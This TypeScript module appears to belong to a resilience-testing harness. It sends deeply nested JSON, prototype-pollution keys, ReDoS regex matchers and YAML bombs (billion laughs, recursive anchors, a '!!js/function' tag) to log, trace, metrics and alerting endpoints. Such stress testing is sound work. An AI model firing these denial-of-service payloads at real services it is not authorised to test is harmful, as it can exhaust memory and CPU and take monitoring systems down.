/** JSON and YAML that nest a hundred thousand deep, or whose values are none. */

import { type Attack, repeat, type Strike } from '../attack.ts';
import { request } from '../send.ts';

const DEEP = 100_000;
const now = () => `${Date.now()}000000`;

function anyValue({ random }: Strike): string {
  const depth = random.pick([50, 101, 1000, DEEP]);
  const [open, close] = random.pick([
    ['{"arrayValue":{"values":[', ']}}'],
    ['{"kvlistValue":{"values":[{"key":"a","value":', '}]}}'],
  ] as const);
  return `${open.repeat(depth)}{"stringValue":"x"}${close.repeat(depth)}`;
}

function nest({ random }: Strike): string {
  const [open, close] = random.pick([
    ['[', ']'],
    ['{"a":', '}'],
    ['[{"streams":', '}]'],
  ] as const);
  return `${open.repeat(DEEP)}1${close.repeat(random.pick([DEEP, 0]))}`;
}

const KEYS = [
  'streams',
  'stream',
  'values',
  'resourceLogs',
  'resource_logs',
  'attributes',
  '__proto__',
  'constructor',
  'annotations',
];
const ODD = [
  'null',
  '1e999',
  '-0',
  '"\\ud800"',
  '[[]]',
  '{"":{}}',
  'true',
  '9223372036854775808',
  '-1',
  '"\\u0000"',
  '0.1e-5000',
  '[null,null]',
];

function oddity({ random }: Strike): string {
  let out = random.pick(ODD);
  for (let i = 0; i < random.int(1, 8); i++) {
    const key = random.pick(KEYS);
    out = random.pick([`{"${key}":${out}}`, `[${out}]`, `{"${key}":[${out},${random.pick(ODD)}]}`]);
  }
  return out;
}

const WAYS: readonly (readonly [path: string, make: (strike: Strike) => string])[] = [
  [
    '/v1/logs',
    (s) =>
      `{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"timeUnixNano":"${now()}","body":${anyValue(s)}}]}]}]}`,
  ],
  [
    '/v1/logs',
    (s) =>
      `{"resourceLogs":[{"resource":{"attributes":[{"key":"k","value":${anyValue(s)}}]},"scopeLogs":[{"logRecords":[{"timeUnixNano":"${now()}"}]}]}]}`,
  ],
  [
    '/v1/traces',
    (s) =>
      `{"resourceSpans":[{"resource":{"attributes":[{"key":"k","value":${anyValue(s)}}]},"scopeSpans":[{"spans":[{"traceId":"0102030405060708090a0b0c0d0e0f10","spanId":"0102030405060708","startTimeUnixNano":"${now()}"}]}]}]}`,
  ],
  [
    '/v1/metrics',
    (s) =>
      `{"resourceMetrics":[{"scopeMetrics":[{"metrics":[{"name":"hostile_nested","gauge":{"dataPoints":[{"timeUnixNano":"${now()}","asDouble":1,"attributes":[{"key":"k","value":${anyValue(s)}}]}]}}]}]}]}`,
  ],
  [
    '/loki/api/v1/push',
    (s) => `{"streams":[{"stream":{"app":"hostile"},"values":[["${now()}",${nest(s)}]]}]}`,
  ],
  ['/loki/api/v1/push', nest],
  ['/loki/api/v1/push', oddity],
  ['/api/prom/push', oddity],
  ['/otlp/v1/logs', oddity],
  ['/v1/logs', oddity],
  ['/v1/traces', oddity],
  ['/v1/metrics', oddity],
  ['/v1/logs', nest],
  ['/api/v2/spans', nest],
  ['/api/v2/spans', oddity],
  [
    '/api/v2/spans',
    (s) =>
      `[{"traceId":"${s.random.pick(['', '0', 'zz', '1'.repeat(40)])}","id":"1","tags":{${'"a":"b",'.repeat(10_000)}"c":"d"},"annotations":[${'{"timestamp":1,"value":"x"},'.repeat(1000)}{}]}]`,
  ],
  ['/api/v2/alerts', nest],
  ['/api/v2/alerts', oddity],
  ['/api/v2/silences', nest],
  ['/api/v2/silences', (s) => silence(s)],
  ['/api/v2/alerts', (s) => alerts(s)],
];

function silence({ random }: Strike): string {
  const matcher = JSON.stringify({
    name: 'a',
    value: random.pick(['x', '(a{1000}){1000}', '(x+x+)+y', '[']),
    isRegex: true,
    isEqual: true,
  });
  const matchers = Array.from({ length: random.pick([1, 100, 100_000]) }, () => matcher).join();
  const at = (ms: number) => new Date(Date.now() + ms).toISOString();
  return `{"matchers":[${matchers}],"startsAt":"${at(0)}","endsAt":"${at(60_000)}","createdBy":"x","comment":"y"}`;
}

function alerts({ random }: Strike): string {
  const labels = (i: number) =>
    JSON.stringify({ alertname: `A${i}`, n: 'x'.repeat(random.pick([1, 100, 10_000])) });
  return `[${Array.from({ length: 500 }, (_, i) => `{"labels":${labels(i + random.int(0, 100_000))}}`).join()}]`;
}

export const nestedJson: Attack = {
  name: 'nested-json',
  strike: (strike) =>
    repeat(strike, 4, async () => {
      const [path, make] = strike.random.pick(WAYS);
      await request(strike, { path, headers: { 'content-type': 'application/json' }, body: make(strike) });
    }),
};

function yaml({ random }: Strike): string {
  const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 10; i++) {
    const before = String.fromCharCode(96 + i);
    laughs.push(
      `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${`*${before},`.repeat(9).slice(0, -1)}]`,
    );
  }
  return random.pick([
    () => laughs.join('\n'),
    () => `name: x\nrules: [${'['.repeat(20_000)}`,
    () => `name: ${'['.repeat(5000)}${']'.repeat(5000)}`,
    () => `name: &a [*a]\nrules: *a`,
    () => `${Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n')}`,
    () => `name: g\nrules:\n${'  - alert: A\n    expr: sum(rate({a="b"}[1m])) > 1\n'.repeat(3000)}`,
    () => `name: g\nrules:\n  - alert: A\n    expr: '${'('.repeat(20_000)}'`,
    () =>
      `name: g\nrules:\n  - alert: A\n    expr: 'sum(rate({a="b"}[1m]))'\n    annotations: {x: '${'{{ range $i, $x := printf "%s" . }}'.repeat(500)}'}`,
    () => `? ${'? '.repeat(5000)}`,
    () => `${'- '.repeat(20_000)}`,
    () => `a: !!binary ${'A'.repeat(100_000)}\nb: !!js/function x`,
    () => `name: "${'\\x41'.repeat(50_000)}"`,
    () => `"${'a'.repeat(100_000)}`,
    () => `<<: [${'{<<: '.repeat(2000)}`,
  ])();
}

export const yamlBombs: Attack = {
  name: 'yaml-bombs',
  strike: (strike) =>
    repeat(strike, 3, async () => {
      const path = strike.random.pick(['/loki/api/v1/rules/hostile', '/api/prom/rules/hostile']);
      await request(strike, { path, headers: { 'content-type': 'application/yaml' }, body: yaml(strike) });
    }),
};
